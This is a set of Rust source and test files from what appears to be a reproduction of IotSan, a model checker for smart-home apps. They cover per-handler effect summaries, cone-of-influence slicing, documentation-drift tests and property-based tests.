            state_vars: vec![],
            dynamic_discovery: false,
        }]
    }

    fn lock_property() -> PropertySet {
        let spec = PropertySpec::builder(90, "lock watched")
            .never(Expr::capability_attr("lock", "lock", "unlocked"));
        PropertySet::from_specs(vec![spec])
    }

    #[test]
    fn cone_pulls_in_transitive_writers() {
        let apps = bundle();
        let plan = slice_plan(&apps, &lock_property());
        // `locker` and `chain` write `lock`; `lights` writes `switch`, which
        // `chain` wakes on — all three are in the cone's closure.
        assert!(plan.is_identity(), "{plan}");
    }

    #[test]
    fn unobserved_writers_are_dropped() {
        let mut apps = bundle();
        // Remove the chain handler: now nothing observable reads `switch`.
        apps[0].handlers.retain(|h| h.name != "chain");
        let plan = slice_plan(&apps, &lock_property());
        assert_eq!(plan.dropped_count(), 1);
        assert!(plan.dropped.contains(&("A".to_string(), "lights".to_string())));
        let sliced = plan.apply(&apps);
        assert_eq!(sliced.len(), 1, "apps are never removed");
        assert_eq!(sliced[0].handlers.len(), 1);
        assert_eq!(sliced[0].handlers[0].name, "locker");
        assert_eq!(sliced[0].inputs.len(), apps[0].inputs.len(), "inputs untouched");
    }

    #[test]
    fn external_trigger_handlers_are_always_retained() {
        let mut apps = bundle();
        apps[0].handlers.push(IrHandler {
            app: "A".into(),
            name: "nightly".into(),
            trigger: Trigger::Timer { delay_seconds: Some(60) },
            body: vec![],
        });
        apps[0].handlers.retain(|h| h.name != "chain");
        let plan = slice_plan(&apps, &lock_property());
        assert!(plan.retained.contains(&("A".to_string(), "nightly".to_string())));
    }

    #[test]
    fn command_atoms_retain_every_command_issuer() {
        let mut apps = bundle();
        apps[0].handlers.retain(|h| h.name != "chain");
        let spec = PropertySpec::builder(91, "no conflicts")
            .never(Expr::atom(iotsan_properties::Atom::ConflictingCommands));
        let set = PropertySet::from_specs(vec![spec]);
        let plan = slice_plan(&apps, &set);
        assert!(plan.is_identity(), "every handler issues commands: {plan}");
    }

    #[test]
    fn distinct_plans_hash_differently() {
        let apps = bundle();
        let full = slice_plan(&apps, &lock_property());
        let mut pruned_apps = apps.clone();
        pruned_apps[0].handlers.retain(|h| h.name != "chain");
        let pruned = slice_plan(&pruned_apps, &lock_property());
        assert_ne!(full.content_hash(), pruned.content_hash());
        // Hash is deterministic.
        assert_eq!(full.content_hash(), slice_plan(&apps, &lock_property()).content_hash());
    }

    #[test]
    fn command_issued_select_is_conservative() {
        // CommandIssued selects a *specific* device, but the cone treats any
        // command as observable — selector narrowing is future work and the
        // conservative choice is sound.
        let apps = bundle();
        let spec = PropertySpec::builder(92, "lock commanded")
            .never(Expr::command_issued(DeviceSelect::capability("lock"), "lock"));
        let set = PropertySet::from_specs(vec![spec]);
        let plan = slice_plan(&apps, &set);
        assert!(plan.cone.commands);
        assert!(plan.is_identity());
    }
}
