//! Static analysis of lowered SmartApp IR (IotSan §5).
//!
//! IotSan front-loads static analysis — extracting what every event handler
//! reads and writes — to cut the model down *before* the checker runs.  This
//! crate is that layer for the Rust reproduction:
//!
//! * [`summary`] — per-handler [`EffectSummary`]: a sound over-approximation
//!   of the read set (device attributes, location mode, event fields,
//!   app-state slots, settings) and write set (commands, attribute changes,
//!   mode changes, fake events, app-state stores, messaging, network,
//!   scheduling);
//! * [`mod@fold`] — constant propagation through guards, powering the
//!   unreachable-branch lints;
//! * [`lint`] — diagnostics over an installed bundle: dead handlers,
//!   unreachable branches, unknown write targets and self-loops, with
//!   app/handler/IR-path provenance;
//! * [`mod@slice`] — property-directed cone-of-influence slicing: starting from
//!   the atoms of the registered property specs, transitively retain the
//!   handlers whose writes can reach what the properties observe and drop
//!   the rest, preserving verdicts exactly (see the [`mod@slice`] module docs
//!   for the soundness argument).
//!
//! Downstream, `iotsan-depgraph` derives its event-flow edges from the
//! summaries, `iotsan-core` folds [`ANALYSIS_VERSION`] and the slice hash
//! into planner fingerprints, and `iotsan-bench`'s `repro slice` experiment
//! measures the state-space reduction.

#![deny(missing_docs)]
#![forbid(unsafe_code)]

pub mod fold;
pub mod lint;
pub mod slice;
pub mod summary;

pub use fold::{fold, fold_guard};
pub use lint::{lint_system, render_report, Diagnostic, LintKind};
pub use slice::{slice_plan, Cone, SlicePlan};
pub use summary::{
    state_channel, summarize_app, summarize_handler, EffectSummary, ReadEffect, WriteEffect,
};

/// Version of the analysis algorithms, folded into planner fingerprints
/// alongside the slice hash so cached verdicts are invalidated whenever the
/// summary or slicing semantics change.  Bump on any change that can alter a
/// [`SlicePlan`].
pub const ANALYSIS_VERSION: u32 = 1;
