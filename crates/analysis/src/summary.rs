//! Per-handler effect summaries (§5, "Extracting input/output events",
//! generalized to all model-visible state).
//!
//! An [`EffectSummary`] is a *sound over-approximation* of everything one
//! event handler can read or write when the model checker interprets it:
//! device attributes, the location mode, app persistent state, timers, user
//! messaging and network interfaces.  Soundness here means containment — the
//! interpreter can never perform a read or write the summary does not list —
//! and is the property the slicer ([`crate::slice`]) and the dependency graph
//! rebase lean on.  The over-approximation is purely syntactic: effects in
//! branches that constant folding proves unreachable are *kept* (the lints in
//! [`crate::lint`] report them instead), so the summary of a handler never
//! depends on how clever the analysis is.

use iotsan_devices::{registry, CommandEffect};
use iotsan_ir::{IrApp, IrExpr, IrHandler, IrStmt, Trigger};
use std::collections::BTreeSet;
use std::fmt;

/// A single read a handler may perform.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
pub enum ReadEffect {
    /// Reads `attribute` of a device bound to `input`
    /// (`luminance1.currentIlluminance`, quantified `every { ... }` queries).
    DeviceAttr {
        /// The `preferences` input the device is bound to.
        input: String,
        /// The attribute read.
        attribute: String,
    },
    /// Reads the location mode (`location.mode`).
    Mode,
    /// Reads a field of the event being handled (`evt.value`, ...).
    EventField,
    /// Reads the modelled clock (`now()` and friends).
    Time,
    /// Reads an app persistent state slot (`state.name`).
    StateVar {
        /// The state variable name.
        name: String,
    },
    /// Reads a non-device setting (`setpoint`, `phone`) — constant per
    /// configuration, listed for completeness.
    Setting {
        /// The setting name.
        name: String,
    },
}

/// A single write a handler may perform.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
pub enum WriteEffect {
    /// Sends `command` to the device(s) bound to `input` — the raw actuator
    /// command, observable by the step properties (conflicts, repeats,
    /// failures) independent of the attribute it drives.
    Command {
        /// The `preferences` input naming the actuator(s).
        input: String,
        /// Command name (`on`, `unlock`, `setLevel`, ...).
        command: String,
    },
    /// Drives a device attribute to `value` (`None` when data-dependent),
    /// resolved from the command through the capability registry.
    DeviceAttr {
        /// The attribute changed.
        attribute: String,
        /// The concrete value, when the command pins one.
        value: Option<String>,
    },
    /// Changes the location mode (`setLocationMode`).
    Mode {
        /// The target mode when it is a literal, `None` otherwise.
        value: Option<String>,
    },
    /// Raises a synthetic device event (`sendEvent`) claiming `attribute`.
    FakeEvent {
        /// The claimed attribute.
        attribute: String,
        /// The claimed value when literal.
        value: Option<String>,
    },
    /// Writes an app persistent state slot (`state.name = ...`).
    StateVar {
        /// The state variable name.
        name: String,
    },
    /// Sends an SMS.
    Sms,
    /// Sends a push notification.
    Push,
    /// Issues an HTTP request (a network interface).
    Network,
    /// Removes the app's subscriptions (`unsubscribe()`).
    Unsubscribe,
    /// Cancels scheduled callbacks (`unschedule()`).
    Unschedule,
    /// Schedules `handler` to run later (`runIn`, `schedule`).
    Schedule {
        /// The scheduled handler method name.
        handler: String,
    },
}

/// The sound read/write over-approximation of one handler.
#[derive(Debug, Clone, PartialEq)]
pub struct EffectSummary {
    /// Name of the app the handler belongs to.
    pub app: String,
    /// Handler method name.
    pub handler: String,
    /// What triggers the handler.
    pub trigger: Trigger,
    /// Everything the handler may read.
    pub reads: BTreeSet<ReadEffect>,
    /// Everything the handler may write.
    pub writes: BTreeSet<WriteEffect>,
}

/// The channel name slicing and the dependency graph use for an app state
/// slot: state is private to an app, so the channel is app-qualified.
pub fn state_channel(app: &str, var: &str) -> String {
    format!("state:{app}:{var}")
}

impl EffectSummary {
    /// True when the handler is a source of *external* actions — timers, app
    /// touches and location events are enumerated into the checker's action
    /// alphabet directly from the handler list, so such handlers must never
    /// be sliced away (see [`crate::slice`]).
    pub fn external_source(&self) -> bool {
        matches!(
            self.trigger,
            Trigger::Timer { .. } | Trigger::AppTouch | Trigger::LocationEvent { .. }
        )
    }

    /// The internal event channel whose writes can fire this handler, if the
    /// trigger listens on one: the device attribute for device subscriptions,
    /// `mode` for mode subscriptions, the event name for location events
    /// (fake events can claim those names too).  Timer and app-touch triggers
    /// fire only from external actions and return `None`.
    pub fn trigger_channel(&self) -> Option<String> {
        match &self.trigger {
            Trigger::Device { attribute, .. } => Some(attribute.clone()),
            Trigger::LocationMode { .. } => Some("mode".to_string()),
            Trigger::LocationEvent { name } => Some(name.clone()),
            Trigger::AppTouch | Trigger::Timer { .. } => None,
        }
    }

    /// Every state channel the handler may write: device attributes (from
    /// commands and fake events), `mode`, and app-qualified state slots.
    pub fn written_channels(&self) -> BTreeSet<String> {
        let mut out = BTreeSet::new();
        for w in &self.writes {
            match w {
                WriteEffect::DeviceAttr { attribute, .. }
                | WriteEffect::FakeEvent { attribute, .. } => {
                    out.insert(attribute.clone());
                }
                WriteEffect::Mode { .. } => {
                    out.insert("mode".to_string());
                }
                WriteEffect::StateVar { name } => {
                    out.insert(state_channel(&self.app, name));
                }
                _ => {}
            }
        }
        out
    }

    /// Every state channel the handler may read (the guard/data dependence
    /// the slicer chases backwards).
    pub fn read_channels(&self) -> BTreeSet<String> {
        let mut out = BTreeSet::new();
        for r in &self.reads {
            match r {
                ReadEffect::DeviceAttr { attribute, .. } => {
                    out.insert(attribute.clone());
                }
                ReadEffect::Mode => {
                    out.insert("mode".to_string());
                }
                ReadEffect::StateVar { name } => {
                    out.insert(state_channel(&self.app, name));
                }
                _ => {}
            }
        }
        out
    }

    /// True when the handler issues any actuator command.
    pub fn issues_commands(&self) -> bool {
        self.writes.iter().any(|w| matches!(w, WriteEffect::Command { .. }))
    }
}

impl fmt::Display for EffectSummary {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "{}::{} reads:{} writes:{}",
            self.app,
            self.handler,
            self.reads.len(),
            self.writes.len()
        )
    }
}

/// Summarizes every handler of `app`, in handler order.
pub fn summarize_app(app: &IrApp) -> Vec<EffectSummary> {
    app.handlers.iter().map(|h| summarize_handler(app, h)).collect()
}

/// Computes the effect summary of one handler by walking its body.
///
/// Reads are collected from *every* expression position (guards, command
/// arguments, message bodies, assignments); writes from every statement,
/// with device commands resolved to the attribute changes they cause through
/// the capability registry — the same resolution the interpreter applies, so
/// the write set is conservative by construction.
pub fn summarize_handler(app: &IrApp, handler: &IrHandler) -> EffectSummary {
    let mut reads = BTreeSet::new();
    let mut writes = BTreeSet::new();
    for stmt in &handler.body {
        stmt.walk(&mut |s| {
            collect_stmt_writes(app, s, &mut writes);
            for_each_expr(s, &mut |e| collect_expr_reads(e, &mut reads));
        });
    }
    EffectSummary {
        app: app.name.clone(),
        handler: handler.name.clone(),
        trigger: handler.trigger.clone(),
        reads,
        writes,
    }
}

fn collect_expr_reads(expr: &IrExpr, reads: &mut BTreeSet<ReadEffect>) {
    expr.walk(&mut |e| match e {
        IrExpr::DeviceAttr { input, attribute } | IrExpr::DeviceQuery { input, attribute, .. } => {
            reads.insert(ReadEffect::DeviceAttr {
                input: input.clone(),
                attribute: attribute.clone(),
            });
        }
        IrExpr::LocationMode => {
            reads.insert(ReadEffect::Mode);
        }
        IrExpr::EventField(_) => {
            reads.insert(ReadEffect::EventField);
        }
        IrExpr::Time => {
            reads.insert(ReadEffect::Time);
        }
        IrExpr::StateVar(name) => {
            reads.insert(ReadEffect::StateVar { name: name.clone() });
        }
        IrExpr::Setting(name) => {
            reads.insert(ReadEffect::Setting { name: name.clone() });
        }
        _ => {}
    });
}

fn collect_stmt_writes(app: &IrApp, stmt: &IrStmt, writes: &mut BTreeSet<WriteEffect>) {
    match stmt {
        IrStmt::DeviceCommand { input, command, .. } => {
            writes.insert(WriteEffect::Command { input: input.clone(), command: command.clone() });
            let capability = app
                .input(input)
                .and_then(|i| i.kind.capability().map(str::to_string))
                .unwrap_or_else(|| "switch".to_string());
            let spec = registry().spec_or_switch(&capability);
            if let Some(cmd) = spec.command(command) {
                for effect in &cmd.effects {
                    match effect {
                        CommandEffect::Set { attribute, value } => {
                            writes.insert(WriteEffect::DeviceAttr {
                                attribute: (*attribute).to_string(),
                                value: Some((*value).to_string()),
                            });
                        }
                        CommandEffect::SetFromArg { attribute } => {
                            writes.insert(WriteEffect::DeviceAttr {
                                attribute: (*attribute).to_string(),
                                value: None,
                            });
                        }
                    }
                }
            } else {
                // Unknown command: assume it changes the primary attribute.
                writes.insert(WriteEffect::DeviceAttr {
                    attribute: spec.primary_attribute().name.to_string(),
                    value: None,
                });
            }
        }
        IrStmt::SetLocationMode(value) => {
            writes.insert(WriteEffect::Mode { value: literal(value) });
        }
        IrStmt::SendEvent { attribute, value } => {
            writes.insert(WriteEffect::FakeEvent {
                attribute: attribute.clone(),
                value: literal(value),
            });
        }
        IrStmt::AssignState { name, .. } => {
            writes.insert(WriteEffect::StateVar { name: name.clone() });
        }
        IrStmt::SendSms { .. } => {
            writes.insert(WriteEffect::Sms);
        }
        IrStmt::SendPush { .. } => {
            writes.insert(WriteEffect::Push);
        }
        IrStmt::HttpRequest { .. } => {
            writes.insert(WriteEffect::Network);
        }
        IrStmt::Unsubscribe => {
            writes.insert(WriteEffect::Unsubscribe);
        }
        IrStmt::Unschedule => {
            writes.insert(WriteEffect::Unschedule);
        }
        IrStmt::Schedule { handler, .. } => {
            writes.insert(WriteEffect::Schedule { handler: handler.clone() });
        }
        _ => {}
    }
}

/// The literal string value of an expression, when it is a constant — the
/// same (deliberately shallow) extraction the dependency graph has always
/// used, so effect-derived profiles refine nothing the legacy graph left
/// unconstrained.
fn literal(expr: &IrExpr) -> Option<String> {
    match expr {
        IrExpr::Const(v) => Some(v.as_string()),
        _ => None,
    }
}

/// Visits every expression embedded directly in `stmt` (not in nested
/// statements — pair with [`IrStmt::walk`] for those).
fn for_each_expr(stmt: &IrStmt, f: &mut impl FnMut(&IrExpr)) {
    match stmt {
        IrStmt::DeviceCommand { args, .. } | IrStmt::OpaqueCall { args, .. } => {
            args.iter().for_each(&mut *f)
        }
        IrStmt::SetLocationMode(e) | IrStmt::Log(e) | IrStmt::Return(Some(e)) => f(e),
        IrStmt::SendSms { recipient, message } => {
            f(recipient);
            f(message);
        }
        IrStmt::SendPush { message } => f(message),
        IrStmt::HttpRequest { url, payload, .. } => {
            f(url);
            if let Some(p) = payload {
                f(p);
            }
        }
        IrStmt::SendEvent { value, .. } => f(value),
        IrStmt::AssignState { value, .. } | IrStmt::AssignLocal { value, .. } => f(value),
        IrStmt::If { cond, .. } | IrStmt::While { cond, .. } => f(cond),
        IrStmt::Schedule { delay_seconds: Some(d), .. } => f(d),
        _ => {}
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use iotsan_ir::AppInput;

    fn app_with(handler: IrHandler) -> IrApp {
        IrApp {
            name: "Test".into(),
            description: String::new(),
            inputs: vec![
                AppInput::device("contact1", "contactSensor"),
                AppInput::device("switches", "switch"),
                AppInput::device("lock1", "lock"),
            ],
            handlers: vec![handler],
            state_vars: vec!["armed".into()],
            dynamic_discovery: false,
        }
    }

    fn device_handler(body: Vec<IrStmt>) -> IrHandler {
        IrHandler {
            app: "Test".into(),
            name: "h".into(),
            trigger: Trigger::Device {
                input: "contact1".into(),
                attribute: "contact".into(),
                value: Some("open".into()),
            },
            body,
        }
    }

    #[test]
    fn commands_resolve_to_attribute_writes() {
        let h = device_handler(vec![
            IrStmt::DeviceCommand { input: "switches".into(), command: "on".into(), args: vec![] },
            IrStmt::DeviceCommand { input: "lock1".into(), command: "unlock".into(), args: vec![] },
        ]);
        let app = app_with(h.clone());
        let s = summarize_handler(&app, &h);
        assert!(s
            .writes
            .contains(&WriteEffect::Command { input: "switches".into(), command: "on".into() }));
        assert!(s.writes.contains(&WriteEffect::DeviceAttr {
            attribute: "switch".into(),
            value: Some("on".into())
        }));
        assert!(s.writes.contains(&WriteEffect::DeviceAttr {
            attribute: "lock".into(),
            value: Some("unlocked".into())
        }));
        assert!(s.issues_commands());
        assert_eq!(s.trigger_channel().as_deref(), Some("contact"));
        assert!(!s.external_source());
    }

    #[test]
    fn reads_cover_guards_and_state() {
        let h = device_handler(vec![IrStmt::If {
            cond: IrExpr::binary(
                iotsan_ir::IrBinOp::And,
                IrExpr::attr_eq("lock1", "lock", "locked"),
                IrExpr::binary(iotsan_ir::IrBinOp::Eq, IrExpr::LocationMode, IrExpr::str("Away")),
            ),
            then: vec![IrStmt::AssignState { name: "armed".into(), value: IrExpr::bool(true) }],
            els: vec![],
        }]);
        let app = app_with(h.clone());
        let s = summarize_handler(&app, &h);
        assert!(s
            .reads
            .contains(&ReadEffect::DeviceAttr { input: "lock1".into(), attribute: "lock".into() }));
        assert!(s.reads.contains(&ReadEffect::Mode));
        assert!(s.writes.contains(&WriteEffect::StateVar { name: "armed".into() }));
        assert!(s.written_channels().contains("state:Test:armed"));
        assert!(s.read_channels().contains("mode"));
        assert!(s.read_channels().contains("lock"));
    }

    #[test]
    fn unreachable_branch_effects_are_kept() {
        // `if (false) { switches.on() }` — folding proves the branch dead,
        // but the summary keeps the write: it is an over-approximation by
        // construction, never a function of analysis precision.
        let h = device_handler(vec![IrStmt::If {
            cond: IrExpr::bool(false),
            then: vec![IrStmt::DeviceCommand {
                input: "switches".into(),
                command: "on".into(),
                args: vec![],
            }],
            els: vec![],
        }]);
        let app = app_with(h.clone());
        let s = summarize_handler(&app, &h);
        assert!(s.written_channels().contains("switch"));
    }

    #[test]
    fn messaging_network_and_timer_writes() {
        let h = IrHandler {
            app: "Test".into(),
            name: "t".into(),
            trigger: Trigger::Timer { delay_seconds: Some(60) },
            body: vec![
                IrStmt::SendSms {
                    recipient: IrExpr::Setting("phone".into()),
                    message: IrExpr::str("hi"),
                },
                IrStmt::SendPush { message: IrExpr::str("hi") },
                IrStmt::HttpRequest {
                    method: iotsan_ir::HttpMethod::Post,
                    url: IrExpr::str("http://x"),
                    payload: None,
                },
                IrStmt::Schedule { handler: "t".into(), delay_seconds: None },
                IrStmt::SendEvent { attribute: "smoke".into(), value: IrExpr::str("detected") },
            ],
        };
        let app = app_with(h.clone());
        let s = summarize_handler(&app, &h);
        assert!(s.external_source());
        assert_eq!(s.trigger_channel(), None);
        for w in [
            WriteEffect::Sms,
            WriteEffect::Push,
            WriteEffect::Network,
            WriteEffect::Schedule { handler: "t".into() },
            WriteEffect::FakeEvent { attribute: "smoke".into(), value: Some("detected".into()) },
        ] {
            assert!(s.writes.contains(&w), "missing {w:?}");
        }
        assert!(s.reads.contains(&ReadEffect::Setting { name: "phone".into() }));
        assert!(s.written_channels().contains("smoke"));
    }
}
