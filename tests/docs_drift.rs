//! Docs-drift guard: `ARCHITECTURE.md`'s crate map must list exactly the
//! workspace's `crates/*` members, and every `vendor/*` stub must be
//! mentioned.  CI runs this in the docs job so the handbook cannot silently
//! rot when crates are added, renamed or removed.

use std::collections::BTreeSet;
use std::fs;
use std::path::{Path, PathBuf};

fn repo_root() -> PathBuf {
    // CARGO_MANIFEST_DIR is crates/core; the repository root is two up.
    Path::new(env!("CARGO_MANIFEST_DIR")).join("..").join("..")
}

/// The package names of every crate under `dir` (read from each Cargo.toml).
fn package_names(dir: &Path) -> BTreeSet<String> {
    let mut names = BTreeSet::new();
    for entry in fs::read_dir(dir).unwrap_or_else(|e| panic!("read {}: {e}", dir.display())) {
        let manifest = entry.expect("dir entry").path().join("Cargo.toml");
        if !manifest.is_file() {
            continue;
        }
        let text = fs::read_to_string(&manifest)
            .unwrap_or_else(|e| panic!("read {}: {e}", manifest.display()));
        let name = text
            .lines()
            .find_map(|l| l.trim().strip_prefix("name = ").map(|v| v.trim_matches('"').to_string()))
            .unwrap_or_else(|| panic!("no package name in {}", manifest.display()));
        names.insert(name);
    }
    names
}

/// The crate names listed in ARCHITECTURE.md's crate-map table (the first
/// backticked cell of every `| `name` | ... |` row).
fn architecture_crate_map(text: &str) -> BTreeSet<String> {
    let mut names = BTreeSet::new();
    for line in text.lines() {
        let Some(rest) = line.strip_prefix("| `") else { continue };
        let Some(end) = rest.find('`') else { continue };
        names.insert(rest[..end].to_string());
    }
    names
}

#[test]
fn architecture_crate_map_matches_workspace_members() {
    let root = repo_root();
    let text = fs::read_to_string(root.join("ARCHITECTURE.md"))
        .expect("ARCHITECTURE.md exists at the repository root");

    let documented = architecture_crate_map(&text);
    let actual = package_names(&root.join("crates"));
    assert!(!actual.is_empty(), "no crates found under crates/");
    assert_eq!(
        documented,
        actual,
        "ARCHITECTURE.md's crate map is out of sync with crates/*: \
         documented-but-missing {:?}, present-but-undocumented {:?}",
        documented.difference(&actual).collect::<Vec<_>>(),
        actual.difference(&documented).collect::<Vec<_>>(),
    );

    // The workspace Cargo.toml must also know every crate (crates/* is a
    // glob member, but the dependency table is written out by hand).
    let workspace = fs::read_to_string(root.join("Cargo.toml")).expect("root Cargo.toml");
    for name in &actual {
        assert!(
            workspace.contains(&format!("{name} = ")),
            "{name} missing from [workspace.dependencies] in the root Cargo.toml"
        );
    }
}

#[test]
fn architecture_mentions_every_vendored_stub() {
    let root = repo_root();
    let text = fs::read_to_string(root.join("ARCHITECTURE.md")).expect("ARCHITECTURE.md exists");
    for name in package_names(&root.join("vendor")) {
        assert!(text.contains(&format!("`{name}`")), "vendored stub `{name}` not documented");
    }
}

#[test]
fn architecture_documents_the_static_analysis_subsystem() {
    let root = repo_root();
    let text = fs::read_to_string(root.join("ARCHITECTURE.md")).expect("ARCHITECTURE.md exists");
    assert!(
        text.contains("## Static analysis subsystem"),
        "ARCHITECTURE.md must keep the static analysis subsystem section"
    );
    for topic in ["Effect summaries", "Lint diagnostics", "Property-directed slicing"] {
        assert!(text.contains(topic), "static analysis section must cover: {topic}");
    }
    assert!(
        text.contains("Why slicing preserves verdicts exactly"),
        "ARCHITECTURE.md must keep the slicing soundness argument"
    );
}

#[test]
fn readme_links_the_architecture_handbook() {
    let root = repo_root();
    let readme = fs::read_to_string(root.join("README.md")).expect("README.md exists");
    assert!(readme.contains("ARCHITECTURE.md"), "README.md must link the architecture handbook");
}

#[test]
fn architecture_documents_the_daemon_subsystem() {
    let root = repo_root();
    let text = fs::read_to_string(root.join("ARCHITECTURE.md")).expect("ARCHITECTURE.md exists");
    assert!(
        text.contains("## Daemon & durable verdict store"),
        "ARCHITECTURE.md must keep the daemon subsystem section"
    );
    for topic in
        ["Fingerprint-keyed records", "Crash safety", "Concurrency discipline", "I/O fault seam"]
    {
        assert!(text.contains(topic), "daemon section must cover: {topic}");
    }
}

#[test]
fn architecture_documents_the_scenario_factory() {
    let root = repo_root();
    let text = fs::read_to_string(root.join("ARCHITECTURE.md")).expect("ARCHITECTURE.md exists");
    assert!(
        text.contains("## Scenario factory"),
        "ARCHITECTURE.md must keep the scenario factory section"
    );
    for topic in ["Determinism contract", "Differential oracle", "Shrinking contract"] {
        assert!(text.contains(topic), "scenario factory section must cover: {topic}");
    }
    assert!(
        text.contains("scenario_repro.json"),
        "scenario factory section must name the CI failure artifact"
    );
}

#[test]
fn readme_quickstarts_the_differential_fuzzer() {
    let root = repo_root();
    let readme = fs::read_to_string(root.join("README.md")).expect("README.md exists");
    assert!(
        readme.contains("repro scenarios"),
        "README.md must keep the `repro scenarios` quickstart"
    );
    assert!(
        readme.contains("--seed 1 --size 200 scenarios"),
        "README.md must show the CI fuzz-smoke invocation"
    );
}

#[test]
fn readme_links_the_operations_handbook() {
    let root = repo_root();
    let readme = fs::read_to_string(root.join("README.md")).expect("README.md exists");
    assert!(
        readme.contains("OPERATIONS.md"),
        "README.md must link the iotsand operator's handbook"
    );
}

#[test]
fn architecture_documents_the_telemetry_subsystem() {
    let root = repo_root();
    let text = fs::read_to_string(root.join("ARCHITECTURE.md")).expect("ARCHITECTURE.md exists");
    assert!(
        text.contains("## Telemetry subsystem"),
        "ARCHITECTURE.md must keep the telemetry subsystem section"
    );
    for topic in [
        "Metrics registry",
        "Flight recorder",
        "Shared row serializer",
        "Instrumentation discipline",
    ] {
        assert!(text.contains(topic), "telemetry section must cover: {topic}");
    }
    assert!(
        text.contains("--no-default-features"),
        "telemetry section must explain the no-op build"
    );
}

/// The metric names documented in OPERATIONS.md's reference table (the
/// backticked first cell of every `| `iotsan_...` | ... |` row).
fn operations_metric_table(text: &str) -> BTreeSet<String> {
    architecture_crate_map(text).into_iter().filter(|n| n.starts_with("iotsan_")).collect()
}

#[test]
fn operations_metrics_reference_matches_the_registry() {
    let root = repo_root();
    let text = fs::read_to_string(root.join("OPERATIONS.md")).expect("OPERATIONS.md exists");
    assert!(
        text.contains("## Metrics reference"),
        "OPERATIONS.md must keep the metrics reference section"
    );
    let documented = operations_metric_table(&text);
    let actual: BTreeSet<String> =
        iotsan_telemetry::DESCRIPTORS.iter().map(|d| d.name.to_string()).collect();
    assert!(!actual.is_empty(), "the telemetry registry declares no metrics");
    assert_eq!(
        documented,
        actual,
        "OPERATIONS.md's metrics reference is out of sync with the registry: \
         documented-but-unregistered {:?}, registered-but-undocumented {:?}",
        documented.difference(&actual).collect::<Vec<_>>(),
        actual.difference(&documented).collect::<Vec<_>>(),
    );
}

#[test]
fn operations_handbook_covers_the_operator_surface() {
    let root = repo_root();
    let text = fs::read_to_string(root.join("OPERATIONS.md"))
        .expect("OPERATIONS.md exists at the repository root");
    // The sections an operator actually reaches for; renaming one here must
    // be a deliberate decision, not drift.
    for section in [
        "## Starting the daemon",
        "## Job file format",
        "## Verdict-store disk layout",
        "## Compaction and eviction knobs",
        "## Crash-recovery semantics",
        "## Failure modes & degraded operation",
        "## Troubleshooting",
    ] {
        assert!(text.contains(section), "OPERATIONS.md must keep the section: {section}");
    }
    for flag in [
        "--store",
        "--jobs",
        "--listen",
        "--compact",
        "--status",
        "--retry-attempts",
        "--retry-base-ms",
        "--enable-fault-injection",
        "--log-level",
        "--metrics-snapshot",
    ] {
        assert!(text.contains(flag), "OPERATIONS.md must document the {flag} flag");
    }
    // The self-healing invariants and their artifacts must stay named.
    for anchor in ["chaos_repro.json", ".quarantine", "repro -- --seed 1 --faults 200 chaos"] {
        assert!(text.contains(anchor), "OPERATIONS.md must keep the reference to {anchor}");
    }
}
