//! Property-based tests (proptest) over the core data structures and
//! invariants of IotSan-rs.

use iotsan::checker::{
    BitstateStore, Checker, ExactStore, SearchConfig, ShardedStore, StateStore, StoreKind,
};
use iotsan::config::{expert_configure, standard_household};
use iotsan::devices::{registry, Device, DeviceId};
use iotsan::ir::Value;
use iotsan::model::{ConcurrentModel, ModelOptions, SequentialModel};
use iotsan::properties::PropertySet;
use iotsan::system::InstalledSystem;
use iotsan::translate_sources;
use iotsan_apps::market;
use proptest::prelude::*;

proptest! {
    /// The lexer and parser never panic on arbitrary input: they either parse
    /// or return a structured error.
    #[test]
    fn parser_never_panics(input in ".{0,200}") {
        let _ = iotsan::groovy::parse(&input);
    }

    /// Groovy-like token soup (identifiers, punctuation, strings) also never
    /// panics the parser.
    #[test]
    fn parser_never_panics_on_token_soup(tokens in proptest::collection::vec(
        prop_oneof![
            Just("def".to_string()),
            Just("if".to_string()),
            Just("(".to_string()),
            Just(")".to_string()),
            Just("{".to_string()),
            Just("}".to_string()),
            Just("==".to_string()),
            Just("\"str\"".to_string()),
            Just("x".to_string()),
            Just("1.5".to_string()),
            Just(",".to_string()),
            Just("\n".to_string()),
        ], 0..60)) {
        let source = tokens.join(" ");
        let _ = iotsan::groovy::parse(&source);
    }

    /// Loose equality over values is reflexive and symmetric.
    #[test]
    fn value_equality_reflexive_symmetric(a in -1000i64..1000, b in -1000i64..1000) {
        let va = Value::Int(a);
        let vb = Value::Int(b);
        prop_assert!(va.loosely_equals(&va));
        prop_assert_eq!(va.loosely_equals(&vb), vb.loosely_equals(&va));
        // Numeric strings compare like numbers.
        let sa = Value::Str(a.to_string());
        prop_assert!(sa.loosely_equals(&va));
    }

    /// Device command application is idempotent for simple set-commands: the
    /// second application never changes the state again.
    #[test]
    fn device_commands_are_idempotent(cmd_choice in 0usize..4) {
        let device = Device::new(DeviceId(0), "lock", "lock");
        let spec = device.spec();
        let mut state = device.initial_state();
        let commands = ["lock", "unlock", "lock", "unlock"];
        let command = commands[cmd_choice];
        state.apply_command(spec, command, &[]);
        let before = state;
        let outcome = state.apply_command(spec, command, &[]);
        prop_assert_eq!(before, state);
        prop_assert_eq!(outcome, iotsan::devices::CommandOutcome::NoChange);
    }

    /// Every attribute index round-trips through the registry domains.
    #[test]
    fn attribute_domains_round_trip(spec_idx in 0usize..30, attr_pick in 0usize..4, value_pick in 0usize..8) {
        let specs = registry().specs();
        let spec = &specs[spec_idx % specs.len()];
        let attr = &spec.attributes[attr_pick % spec.attributes.len()];
        let idx = value_pick % attr.domain.len();
        let rendered = attr.domain.value_at(idx).unwrap();
        prop_assert_eq!(attr.domain.index_of(&rendered), Some(idx));
    }

    /// The exact store never reports a previously inserted state as new, and
    /// the bitstate store never admits more distinct states than the exact
    /// store for the same input sequence.
    #[test]
    fn state_stores_agree_on_duplicates(states in proptest::collection::vec(
        proptest::collection::vec(0u8..8, 1..12), 1..200)) {
        let mut exact = ExactStore::new();
        let mut bitstate = BitstateStore::with_defaults();
        let sharded = ShardedStore::new(StoreKind::Exact, 8);
        let mut exact_new = 0usize;
        let mut bitstate_new = 0usize;
        let mut sharded_new = 0usize;
        for state in &states {
            if exact.insert(state) { exact_new += 1; }
            if bitstate.insert(state) { bitstate_new += 1; }
            if sharded.insert(state) { sharded_new += 1; }
        }
        prop_assert!(bitstate_new <= exact_new);
